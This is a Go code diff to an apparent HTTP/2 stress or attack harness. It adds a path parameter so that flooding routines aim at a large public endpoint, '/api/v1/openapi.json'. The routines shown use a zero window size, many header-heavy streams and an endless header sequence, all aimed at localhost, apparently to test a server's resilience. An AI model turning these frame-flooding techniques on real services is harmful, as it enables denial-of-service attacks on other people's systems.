@@ -38,11 +38,14 @@ func (a *attacker) http2() (*http2.Framer, error) {
 	return f, f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
 }
 
+// openAPI is the longest answer that strangers get.
+const openAPI = "/api/v1/openapi.json"
+
 // headOf is the head of a request with so many fields of 1 KiB.
-func headOf(fields int) []byte {
+func headOf(path string, fields int) []byte {
 	var head bytes.Buffer
 	e := hpack.NewEncoder(&head)
-	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/api/v1/openapi.json"}} {
+	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", path}} {
 		_ = e.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
 	}
 	for i := range fields {
@@ -52,12 +55,12 @@ func headOf(fields int) []byte {
 }
 
 // streams sends requests, and takes them back or not.
-func (a *attacker) streams(n, fields int, takeBack bool) error {
+func (a *attacker) streams(path string, n, fields int, takeBack bool) error {
 	f, err := a.http2()
 	if err != nil {
 		return err
 	}
-	head := headOf(fields)
+	head := headOf(path, fields)
 	for id := uint32(1); id < uint32(2*n); id += 2 {
 		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndStream: true, EndHeaders: true}); err != nil {
 			return err
@@ -79,7 +82,7 @@ func (a *attacker) records(n int) error {
 		return err
 	}
 	var all bytes.Buffer
-	f, head := http2.NewFramer(&all, nil), headOf(0)
+	f, head := http2.NewFramer(&all, nil), headOf(openAPI, 0)
 	_ = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
 	for id := uint32(1); id < uint32(2*n); id += 2 {
 		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndStream: true, EndHeaders: true})
@@ -96,7 +99,7 @@ func (a *attacker) endlessHead() error {
 	if err != nil {
 		return err
 	}
-	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headOf(0), EndStream: true}); err != nil {
+	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headOf(openAPI, 0), EndStream: true}); err != nil {
 		return err
 	}
 	for {
